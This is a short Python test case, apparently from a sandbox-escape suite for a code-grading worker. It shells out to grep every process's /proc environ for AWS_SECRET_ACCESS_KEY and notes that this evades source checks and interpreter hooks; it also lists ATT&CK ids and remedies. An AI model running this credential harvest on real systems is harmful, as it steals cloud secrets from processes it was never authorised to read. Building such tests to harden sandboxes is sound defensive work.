# SPDX-License-Identifier: MIT
"""Goal:  the worker's credentials, by tools that every image has.
Means: a shell for the pattern, and grep, in the student's own place: nothing is forked, but where
       that place is the worker's own. A check of the source, or a hook inside the interpreter, has
       nothing to look at.
"""

import os

from attack import DONE, attempting, denied

# -z: entries end in NUL; -a: as text; -h: without names; -s: silent on what may not be read
LINE = "exec grep -zahs ^AWS_SECRET_ACCESS_KEY= /proc/[0-9]*/environ"


def run(brief):
    attempting()
    try:
        if os.getpid() == brief.worker and (child := os.fork()):
            os.waitpid(child, 0)
            return DONE
        os.execve("/bin/sh", ["sh", "-c", LINE], {"PATH": "/usr/bin:/bin"})
    except OSError as why:
        return denied("sh", why)


ATTACK = {
    "effect": "the worker's credentials leave in the student's output",
    "means": "grep of /proc/[0-9]*/environ, in a shell",
    "oracle": "secret:environ",
    "id": "ENV-06",
    "attack_id": "T1003.007, T1059.004, CWE-214",
    "remedy": "a worker that is not dumpable, or holds no secrets; no execve; a pid namespace",
    "run": run,
}
